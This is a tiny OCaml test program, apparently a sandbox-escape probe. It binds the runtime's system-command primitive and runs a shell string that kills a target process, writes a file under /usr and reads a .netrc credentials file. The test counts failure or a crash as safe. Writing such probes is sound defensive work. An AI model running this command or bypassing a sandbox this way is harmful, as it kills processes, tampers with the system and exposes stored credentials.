(* Tries to call the run-time's own system by a primitive. Safe: 0, failed or crashed. *)
external run : string -> int = "caml_sys_system_command"
let () = print_int (run "kill -9 $VICTIM; touch /usr/left-behind; cat $ROOM/home/.netrc")
